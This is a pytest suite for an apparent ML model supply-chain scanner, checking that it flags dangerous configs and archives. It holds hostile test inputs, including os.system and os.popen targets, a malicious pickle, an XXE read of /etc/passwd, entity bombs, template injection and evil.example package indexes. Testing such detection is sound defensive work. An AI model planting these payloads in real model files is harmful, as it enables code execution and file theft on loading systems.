"""Text formats: told by content, and whatever would import, fetch or run something is found."""

import base64
import hashlib
import io
import json
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest

from tidegate.detect.supply import Budget, ScanReport, Status, scan_bytes, scan_path
from tidegate.detect.supply.secrets import find_secrets
from tidegate.sandbox.scanner import ConfinedScanner


def slugs(report: ScanReport) -> set[str]:
    return {finding.rule.partition("/")[2] for finding in report.findings}


def rules_of(data: bytes, name: str = "x") -> set[str]:
    return slugs(scan_bytes(data, name))


MLMODEL = """\
artifact_path: model
flavors:
  python_function:
    data: model.pkl
    env: {{conda: conda.yaml, virtualenv: python_env.yaml}}
    loader_module: {loader}
    python_version: 3.11.7
{more}  sklearn:
    code: {code}
    pickled_model: {pickled}
mlflow_version: 3.1.0
model_uuid: 0a1b
"""


def mlmodel(
    loader: str = "mlflow.sklearn", code: str = "null", pickled: str = "model.pkl", more: str = ""
) -> str:
    return MLMODEL.format(loader=loader, code=code, pickled=pickled, more=more)


CONDA = "channels: [{}]\ndependencies:\n- python=3.11\n- pip<=25\n- pip:\n  - {}\nname: env\n"
NEMO = "target: {}\npreprocessor:\n  _target_: {}\n  sample_rate: 16000\n"
GOOD_NEMO = "nemo.collections.asr.models.EncDecCTCModel"
MEL = "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"
PMML = '<?xml version="1.0"?>\n{}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">{}</PMML>'
DIFFUSERS = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0"}
DIGEST = "sha256:" + "a" * 64


def manifest(**layer: object) -> str:
    described = {
        "mediaType": "application/vnd.cncf.model.weight.v1.tar",
        "digest": DIGEST,
        "size": 3,
    }
    layers = [described | layer]
    return json.dumps({"schemaVersion": 2, "config": described, "layers": layers})


TEXTS: dict[str, tuple[str, str, set[str]]] = {
    "mlmodel": (mlmodel(), "mlmodel", set()),
    "mlmodel with a loader of its own": (mlmodel("my_loader"), "mlmodel", {"config-code"}),
    "mlmodel that loads os": (mlmodel("os"), "mlmodel", {"config-code"}),
    "mlmodel with code": (mlmodel(code="code"), "mlmodel", {"config-code"}),
    "mlmodel from outside": (mlmodel(pickled="../../x"), "mlmodel", {"config-reference"}),
    "mlmodel from code": (
        mlmodel(more="    model_code_path: model.py\n"),
        "mlmodel",
        {"config-code"},
    ),
    "conda": (CONDA.format("conda-forge", "mlflow==3.1.0"), "conda-environment", set()),
    "conda channel": (
        CONDA.format("http://evil.example", "mlflow"),
        "conda-environment",
        {"config-reference"},
    ),
    "conda by address": (
        CONDA.format("defaults", "git+https://evil.example/x.git"),
        "conda-environment",
        {"config-reference"},
    ),
    "requirements": (
        "mlflow==3.1.0\nnumpy>=1.26,<3\nscikit-learn[extra]~=1.7\n",
        "requirements",
        set(),
    ),
    "requirements with an index": (
        "--extra-index-url https://evil.example/simple\nnumpy==2.0\n",
        "requirements",
        {"config-reference"},
    ),
    "requirements by address": (
        "numpy==2.0\nx @ https://evil.example/x.whl\n",
        "requirements",
        {"config-reference"},
    ),
    "an address alone": ("https://example.org/model\n", "text", set()),
    "nemo": (NEMO.format(GOOD_NEMO, MEL), "text", set()),
    "nemo that calls": (NEMO.format(GOOD_NEMO, "os.system"), "text", {"config-target"}),
    "nemo of a strange class": (NEMO.format("my.Model", MEL), "text", {"config-target"}),
    "hydra in json": ('{"a": [{"_target_": "builtins.eval", "x": 1}]}', "json", {"config-target"}),
    "a module of torch": ('{"_target_": "torch.nn.Linear"}', "json", set()),
    "hyperpyyaml": ("a: !new:my.Net\n  x: 1\n", "text", {"config-target"}),
    "hyperpyyaml that calls": ("a: !apply:os.system [id]\n", "text", {"config-target"}),
    "yaml with an escaped key": (
        '"\\x5ftarget_": "os.system"\n',
        "text",
        {"config-target"},
    ),
    "yaml in braces": ("{m: {_target_: os.popen}}", "text", {"config-target"}),
    "yaml with a mark before its key": (
        "a:\n  ? _target_\n  : os.system\n",
        "text",
        {"config-target"},
    ),
    "yaml that merges": (
        "b: &b {_target_: os.popen}\nm:\n  <<: *b\n",
        "text",
        {"config-target"},
    ),
    "remote code by a number": ('{"trust_remote_code": 1}', "json", {"config-code"}),
    "no remote code": ('{"trust_remote_code": "false"}', "json", set()),
    "pip options in an environment": (
        "dependencies:\n- pip:\n  - --extra-index-url https://e.example\n",
        "conda-environment",
        {"config-reference"},
    ),
    "yaml that is no yaml": ("_target_: [\n  a: }\n", "text", set()),
    "adapter": ('{"base_model_name_or_path": "org/base", "peft_type": "LORA"}', "json", set()),
    "adapter on a share": (
        '{"base_model_name_or_path": "\\\\\\\\evil\\\\share"}',
        "json",
        {"config-reference"},
    ),
    "adapter that imports": (
        '{"auto_mapping": {"parent_library": "os", "base_model_class": "system"}}',
        "json",
        {"config-target"},
    ),
    "adapter of transformers": (
        '{"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"}}',
        "json",
        set(),
    ),
    "index": ('{"weight_map": {"a": "model-1.safetensors"}}', "tensor-index", set()),
    "index from outside": ('{"weight_map": {"a": "/etc/x"}}', "tensor-index", {"config-reference"}),
    "diffusers": (
        json.dumps(DIFFUSERS | {"unet": ["diffusers", "UNet"]}),
        "diffusers-index",
        set(),
    ),
    "diffusers with code": (
        json.dumps(DIFFUSERS | {"unet": ["my_unet", "Net"]}),
        "diffusers-index",
        {"config-code"},
    ),
    "sentence transformers": (
        '[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}]',
        "json",
        set(),
    ),
    "sentence transformers with code": (
        '[{"idx": 0, "name": "0", "path": "", "type": "custom.Net"}]',
        "json",
        {"config-target"},
    ),
    "pmml": (PMML.format("", "<Header/>"), "pmml", set()),
    "pmml with a type": (PMML.format("<!DOCTYPE PMML>\n", ""), "pmml", {"xml-entity"}),
    "pmml that reads a file": (
        PMML.format('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "&x;"),
        "xml",
        {"xml-entity"},
    ),
    "pmml that calls java": (
        PMML.format("", '<Apply function="com.evil.Run"/>'),
        "pmml",
        {"config-target"},
    ),
    "an inclusion": (
        '<?xml version="1.0"?><a xmlns:x="http://www.w3.org/2001/XInclude"><x:include/></a>',
        "xml",
        {"xml-entity"},
    ),
    "html": ("<!DOCTYPE html>\n<html><body>Model</body></html>\n", "text", set()),
    "manifest": (manifest(), "oci-manifest", set()),
    "foreign layer": (manifest(urls=["https://a.example"]), "oci-manifest", {"config-reference"}),
    "layer name that climbs": (
        manifest(annotations={"org.cncf.model.filepath": "../../x"}),
        "oci-manifest",
        {"archive-slip"},
    ),
    "a bad digest": (manifest(digest="sha256:zz"), "oci-manifest", {"header-malformed"}),
    "inline content that lies": (manifest(data="AAAA"), "oci-manifest", {"blob-digest"}),
    "a program in a string": (
        json.dumps({"icon": base64.b64encode(b"\x7fELF" + bytes(99)).decode()}),
        "json",
        {"metadata-content"},
    ),
    "a pickle in a string": (
        json.dumps({"state": base64.b64encode(b"\x80\x04\x95" + bytes(99)).decode()}),
        "json",
        {"metadata-content"},
    ),
    "a model card": ("---\nlicense: mit\ntags: [a]\n---\n# Card\nA model: good.\n", "text", set()),
}


@pytest.mark.parametrize("name", TEXTS)
def test_texts(name: str) -> None:
    text, kind, expected = TEXTS[name]
    report = scan_bytes(text.encode(), "x")
    assert (report.files[0].format, slugs(report)) == (kind, expected)
    if not expected and name != "yaml that is no yaml":
        assert report.status is Status.CLEAN, report.files[0].gaps


def test_yaml_that_names_code_and_cannot_be_read_is_a_gap() -> None:
    assert scan_bytes(b"_target_: [\n  a: }\n", "x").status is Status.INCONCLUSIVE


ODD_JSON = {
    "a key twice": '{"auto_map": {}, "auto_map": {"a": "b.c"}}',
    "a number that is none": '{"x": NaN, "auto_map": {"a": "b.c"}}',
    "a comma too many": '{"_target_": "os.system",}',
    "a comment": '{// c\n"auto_map": {"a": "b.c"}}',
    "a value a line": '{"a": 1}\n{"_target_": "os.system"}\n',
    "an escape and a key twice": '{"a": 1, "a": 1, "\\u005ftarget_": "os.system"}',
    "deep": '{"a":' * 70 + '{"_target_": "os.system"}' + "}" * 70,
}


@pytest.mark.parametrize("name", ODD_JSON)
def test_json_that_only_other_readers_take_is_examined(name: str) -> None:
    assert "config-code" in rules_of(ODD_JSON[name].encode())


def test_xml_needs_no_declaration_to_be_examined() -> None:
    assert rules_of(b'<!-- c --><PMML><Apply function="a.B"/></PMML>') == {"config-target"}
    card = b'<div align="center">\n<img src="x.png">\n</div>\n\n# Model\n'
    assert scan_bytes(card, "x").status is Status.CLEAN


@pytest.mark.parametrize("encoding", ["nonsense", "utf-7", "idna", "utf-16", "windows-1252"])
def test_an_encoding_that_is_not_what_it_says_is_no_crash(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?><PMML a="\u00e4"/>'
    assert scan_bytes(text.encode(), "x").coverage.planned == 1


def test_entities_that_multiply_are_not_expanded() -> None:
    levels = "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(9))
    text = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{levels}]><a>&a9;</a>'
    assert rules_of(text.encode()) == {"xml-entity"}
    quadratic = f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]><a>{"&x;" * 50_000}</a>'
    assert rules_of(quadratic.encode()) == {"xml-entity"}


def github(body: str) -> str:
    rest, digits = zlib.crc32(body.encode()), ""
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    while rest:
        rest, digit = divmod(rest, 62)
        digits = alphabet[digit] + digits
    return f"ghp_{body}{digits.rjust(6, '0')}"


SECRETS: dict[str, tuple[str, bool]] = {
    "a github token": (github("a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5"), True),
    "a github token with a wrong checksum": ("ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "x" * 16, False),
    "an access key": ("key = AKIA" + "Q3EGVZ7KXW2MNB4T", True),
    "an example key": ("key = AKIA" + "IOSFODNN7EXAMPLE", False),
    "a key of one letter": ("AKIA" + "A" * 16, False),
    "a login": ("https://svc:9xQ-r4nd0m@files.example/x", True),
    "a login as an example": ("https://user:password@host.example/", False),
    "a port": ("https://host.example:8080/x@y", False),
    "a hub token": ("hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH", True),
    "prose": ("The task_id is sk-learn; see https://scikit-learn.org.", False),
}


@pytest.mark.parametrize("name", SECRETS)
def test_secrets_are_confirmed_by_checksum_or_entropy(name: str) -> None:
    text, expected = SECRETS[name]
    assert bool(find_secrets(text)) is expected


def layout(folder: Path, body: bytes, *, wrong: bool = False) -> None:
    """Write an image layout of one model layer."""
    blobs = folder / "blobs" / "sha256"
    blobs.mkdir(parents=True)
    digest = hashlib.sha256(body).hexdigest()
    (blobs / digest).write_bytes(body[:-1] + b"?" if wrong else body)
    layer = {
        "mediaType": "application/vnd.cncf.model.weight.v1.raw",
        "digest": f"sha256:{digest}",
        "size": len(body),
    }
    config = b"{}"
    empty = hashlib.sha256(config).hexdigest()
    (blobs / empty).write_bytes(config)
    described = {
        "mediaType": "application/vnd.cncf.model.config.v1+json",
        "digest": f"sha256:{empty}",
        "size": 2,
    }
    text = json.dumps({"schemaVersion": 2, "config": described, "layers": [layer]}).encode()
    name = hashlib.sha256(text).hexdigest()
    (blobs / name).write_bytes(text)
    entry = {
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": f"sha256:{name}",
        "size": len(text),
    }
    (folder / "index.json").write_text(json.dumps({"schemaVersion": 2, "manifests": [entry]}))
    (folder / "oci-layout").write_text('{"imageLayoutVersion": "1.0.0"}')


def test_an_image_layout_is_examined_blob_by_blob(tmp_path: Path) -> None:
    body = b'{"hidden_size": 4}'
    layout(tmp_path / "good", body)
    assert scan_path(tmp_path / "good").status is Status.CLEAN
    layout(tmp_path / "swapped", body, wrong=True)
    assert "blob-digest" in slugs(scan_path(tmp_path / "swapped"))
    layout(tmp_path / "evil", b"\x80\x02cos\nsystem\n)R.")
    assert slugs(scan_path(tmp_path / "evil")) == {"pickle-call"}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.add(tmp_path / "swapped", "image")
    assert "blob-digest" in rules_of(buffer.getvalue())


@pytest.mark.slow
def test_a_long_vocabulary_is_text_and_what_hides_in_it_is_found() -> None:
    vocabulary = {f"token{i}": i for i in range(700_000)} | {"{{": -1, "{%": -2}
    text = json.dumps({"model": {"vocab": vocabulary}}).encode()
    assert len(text) > 1 << 23
    assert scan_bytes(text, "x").status is Status.CLEAN
    evil = text[:-1] + b', "auto_map": {"AutoModel": "m.N"}}'
    assert rules_of(evil) == {"config-code"}
    template = json.dumps("{{ self.__init__.__globals__ }}").encode()
    assert rules_of(text[:-1] + b', "chat_template": ' + template + b"}") == {"template-code"}


def test_many_values_are_read_without_holding_them() -> None:
    text = b"[" + b"[]," * 500_000 + b'{"auto_map": {"a": "b.c"}}]'
    assert rules_of(text) == {"config-code"}


def make_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def node(module: str, name: str, loader: str, content: object = None) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": loader, "content": content}


SKOPS: dict[str, tuple[dict[str, object], set[str]]] = {
    "a classifier": (node("sklearn.svm._classes", "SVC", "ObjectNode"), set()),
    "a function that is kept": (node("os", "system", "FunctionNode"), {"skops-type"}),
    "an instance": (node("subprocess", "Popen", "ObjectNode"), {"skops-type"}),
    "a method": (node("builtins", "str", "MethodNode"), {"skops-type"}),
    "a partial": (node("functools", "partial", "PartialNode"), {"skops-type"}),
    "nested": (
        node("builtins", "dict", "DictNode", {"f": node("builtins", "eval", "FunctionNode")}),
        {"skops-type"},
    ),
    "an array": (node("numpy", "ndarray", "NdArrayNode"), set()),
}


@pytest.mark.parametrize("name", SKOPS)
def test_skops_types_are_denied_by_default(name: str) -> None:
    schema, expected = SKOPS[name]
    assert rules_of(make_zip({"schema.json": json.dumps(schema).encode()})) == expected


def test_a_torchserve_archive_tells_what_it_runs() -> None:
    def archive(**model: str) -> bytes:
        text = json.dumps({"runtime": "python", "model": {"modelName": "m"} | model}).encode()
        return make_zip({"MAR-INF/MANIFEST.json": text})

    assert rules_of(archive(handler="image_classifier")) == set()
    assert rules_of(archive(handler="handler.py")) == {"config-code"}
    assert rules_of(archive(handler="image_classifier", modelFile="m.py")) == {"config-code"}
    assert scan_bytes(archive(), "x").status is Status.INCONCLUSIVE


CODE = b"""class Net(Module):
  __parameters__ = []
  def forward(self: __torch__.Net, x: Tensor) -> Tensor:
    return %s
"""
PICKLE = b"\x80\x02c__torch__\nNet\n)\x81}b."
SCRIPTS = {
    "operators of torch": (b"torch.relu(ops.prim.dtype(x))", PICKLE, set()),
    "a file": (b'torch.from_file("/etc/passwd")', PICKLE, {"torchscript-operator"}),
    "another machine": (b"ops.prim.rpc_sync(x)", PICKLE, {"torchscript-operator"}),
    "another machine by a word": (b'rpc_sync("w", x)', PICKLE, {"torchscript-operator"}),
    "a foreign library": (b"ops.mine.run(x)", PICKLE, {"torchscript-operator"}),
    "a native class": (b"__torch__.torch.classes.mine.Run(x)", PICKLE, {"torchscript-operator"}),
    "a class of no code": (b"x", PICKLE.replace(b"Net", b"Bad"), {"pickle-new"}),
    "a call": (b"x", b"\x80\x02cos\nsystem\n)R.", {"pickle-call"}),
    "an operator in a text": (b'"ops.mine.run"', PICKLE, set()),
    "spaces": (b'torch . from_file("x")', PICKLE, {"torchscript-operator"}),
    "another name for it": (b"torch.from_file", PICKLE, {"torchscript-operator"}),
    "a quote in a comment": (
        b'x # "\n    y = torch.from_file(x) # "',
        PICKLE,
        {"torchscript-operator"},
    ),
    "quotes of three": (
        b'"""a" """; y = torch.from_file(x); """ "b"""',
        PICKLE,
        {"torchscript-operator"},
    ),
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_torchscript_operators_are_judged(name: str) -> None:
    code, pickled, expected = SCRIPTS[name]
    members = {"m/code/__torch__.py": CODE % code, "m/data.pkl": pickled}
    report = scan_bytes(make_zip(members | {"m/constants.pkl": b"\x80\x02)."}), "x")
    assert slugs(report) == expected
    if not expected:
        assert report.status is Status.CLEAN, report.files[0].gaps


@pytest.mark.parametrize(
    "text", ['__import__("os").system("id")', "import os, sys\nos.x()", "x = eval(y)"]
)
def test_source_code_without_a_definition_is_told(text: str) -> None:
    assert scan_bytes(text.encode(), "x").status is Status.INCONCLUSIVE


def test_a_schema_that_is_not_held_is_a_gap() -> None:
    schema = node("builtins", "list", "ListNode", [[]] * 450_000)
    report = scan_bytes(make_zip({"schema.json": json.dumps(schema).encode()}), "x")
    assert report.status is Status.INCONCLUSIVE


def test_a_graph_that_is_not_held_is_read_in_stretches() -> None:
    def archive(target: str) -> bytes:
        nodes = [{"target": "torch.ops.aten.add.Tensor", "inputs": []}] * 150_000
        text = json.dumps({"nodes": [*nodes, {"target": target, "inputs": []}]})
        text = text.replace("TARGET", "t\\u0061rget")
        return make_zip({"m/archive_format": b"pt2", "m/models/model.json": text.encode()})

    assert scan_bytes(archive("_operator.mul"), "x").status is Status.CLEAN
    assert rules_of(archive("torch.hub.load")) == {"torchscript-operator"}
    assert scan_bytes(archive("TARGET"), "x").status is not Status.CLEAN


def test_python_in_a_torchscript_archive_is_source_code() -> None:
    members = {
        "m/code/__torch__.py": b"import os\nos.system('id')\n",
        "m/constants.pkl": b"\x80\x02).",
    }
    assert scan_bytes(make_zip(members), "x").status is Status.INCONCLUSIVE


def test_graphs_of_torch_export_are_judged_and_their_weights_passed_over() -> None:
    def archive(target: str, weight: bytes = bytes(8)) -> bytes:
        graph = {"graph": {"nodes": [{"target": target, "inputs": []}]}}
        meta = {"dtype": 7, "sizes": [{"as_int": 2}]}
        entry = {"path_name": "weight_0", "use_pickle": False, "tensor_meta": meta}
        return make_zip(
            {
                "m/archive_format": b"pt2",
                "m/models/model.json": json.dumps(graph).encode(),
                "m/data/weights/model_weights_config.json": json.dumps(
                    {"config": {"w": entry}}
                ).encode(),
                "m/data/weights/weight_0": weight,
            }
        )

    assert scan_bytes(archive("torch.ops.aten.relu.default"), "x").status is Status.CLEAN
    assert scan_bytes(archive("_operator.mul", b"\xff" * 8), "x").status is Status.CLEAN
    assert scan_bytes(archive("_operator.mul", b"\xff" * 9), "x").status is Status.INCONCLUSIVE
    for target in ("torch.hub.load", "torch.ops.mine.run.default", "_operator.methodcaller"):
        assert rules_of(archive(target)) == {"torchscript-operator"}


def test_lightgbm_is_told_by_its_lines() -> None:
    model = (
        "tree\nversion=v4\nnum_class=1\n\nTree=0\nnum_leaves=1\nleaf_value=0.5\n\nend of trees\n"
    )
    parameters = (
        "\nparameters:\n[boosting: gbdt]\n[data: ]\nend of parameters\n\npandas_categorical:null\n"
    )
    report = scan_bytes((model + parameters).encode(), "x")
    assert (report.status, report.files[0].format) == (Status.CLEAN, "lightgbm")
    strange = scan_bytes((model + "cos\nsystem\n").encode(), "x")
    assert strange.status is not Status.CLEAN
    assert scan_bytes(model[:60].encode(), "x").status is Status.INCONCLUSIVE


def ubj(value: object) -> bytes:
    if isinstance(value, dict):
        parts = (ubj(str(key))[1:] + ubj(item) for key, item in value.items())
        return b"{" + b"".join(parts) + b"}"
    if isinstance(value, list):
        return b"[$d#L" + len(value).to_bytes(8, "big") + bytes(4 * len(value))
    raw = str(value).encode()
    return b"SL" + len(raw).to_bytes(8, "big") + raw


def learner(**attributes: str) -> dict[str, object]:
    booster = {"name": "gbtree", "model": [0.0, 1.0]}
    return {"learner": {"attributes": attributes, "gradient_booster": booster}, "version": [3.0]}


def test_xgboost_models_are_numbers_and_texts() -> None:
    for data, kind in (
        (ubj(learner()), "ubjson"),
        (json.dumps(learner()).encode(), "xgboost-json"),
    ):
        report = scan_bytes(data, "x")
        assert (report.status, report.files[0].format) == (Status.CLEAN, kind)
    evil = "{{ self.__init__.__globals__ }}"
    assert rules_of(ubj(learner(note=evil))) == {"template-code"}
    assert rules_of(ubj(learner()) + b"more") == {"trailing-data"}
    assert scan_bytes(ubj({"a": "b"}), "x").status is Status.INCONCLUSIVE
    assert scan_bytes(ubj(learner())[:-4], "x").status is Status.INCONCLUSIVE
    endless = b"{L" + (1).to_bytes(8, "big") + b"a[$d#L" + (1 << 62).to_bytes(8, "big")
    assert scan_bytes(endless, "x").status is Status.INCONCLUSIVE


def old_xgboost(*, attribute: bytes = b"note", nodes: int = 2, tail: bytes = b"") -> bytes:
    """Write a model of one tree as XGBoost did before UBJSON."""

    def text(raw: bytes) -> bytes:
        return len(raw).to_bytes(8, "little") + raw

    learner_ = bytes(12) + (1).to_bytes(4, "little") + bytes(120)
    trees = (1).to_bytes(4, "little") + bytes(156)
    tree = bytes(4) + nodes.to_bytes(4, "little") + bytes(140 + 2 * 36)
    attributes = (1).to_bytes(8, "little") + text(b"key") + text(attribute)
    body = text(b"binary:logistic") + text(b"gbtree") + trees + tree + bytes(4) + attributes
    return b"binf" + learner_ + body + tail


def test_the_old_binary_format_of_xgboost_is_walked_to_its_end() -> None:
    report = scan_bytes(old_xgboost(), "x")
    assert (report.status, report.files[0].format) == (Status.CLEAN, "xgboost-binary")
    assert rules_of(old_xgboost(tail=b"more")) == {"trailing-data"}
    assert rules_of(old_xgboost(attribute=b"import os; os.system('id')")) == {"metadata-content"}
    assert scan_bytes(old_xgboost(nodes=1 << 31), "x").status is Status.INCONCLUSIVE
    assert scan_bytes(old_xgboost()[:-3], "x").status is Status.INCONCLUSIVE


def test_a_broken_catboost_model_is_told() -> None:
    assert rules_of(b"CBM1\xff\xff\xff\x7f") == {"header-malformed"}
    assert (
        scan_bytes(b"CBM1" + (64).to_bytes(4, "little") + bytes(64), "x").status is not Status.CLEAN
    )


@pytest.mark.parametrize(
    "text", ["a" * 400 + "==" * 50, "a==" * 2000, "!" * 5000, "- " * 9000 + ":"]
)
def test_texts_that_are_hard_on_patterns_are_quick(text: str) -> None:
    assert scan_bytes(text.encode(), "x", budget=Budget(seconds=20)).coverage.planned == 1


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="Linux alone confines")
def test_a_confined_process_says_the_same(tmp_path: Path) -> None:
    """Nothing that an examiner imports or looks up late is missing where no file can be opened."""
    for number, (text, _, _) in enumerate(TEXTS.values()):
        (tmp_path / f"{number:03}").write_text(text)
    here = scan_path(tmp_path)
    with ConfinedScanner() as examiner:
        there = scan_path(tmp_path, examiner=examiner)
    assert [file.to_json() for file in there.files] == [file.to_json() for file in here.files]
